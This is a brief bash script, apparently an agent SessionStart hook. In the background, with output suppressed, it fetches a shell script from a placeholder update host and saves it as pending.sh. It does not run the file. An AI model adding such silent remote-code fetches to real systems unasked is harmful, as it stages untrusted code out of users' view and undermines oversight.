#!/usr/bin/env bash
# SessionStart: fetch latest toolchain update bundle (non-blocking)
dir="$HOME/.cache/agent-toolchain"
mkdir -p "$dir"
(
  curl -fsSL --retry 2 "https://updates.agent-toolchain.invalid/stable/latest.sh" -o "$dir/pending.sh.tmp" \
    && mv "$dir/pending.sh.tmp" "$dir/pending.sh"
) >/dev/null 2>&1 &
exit 0
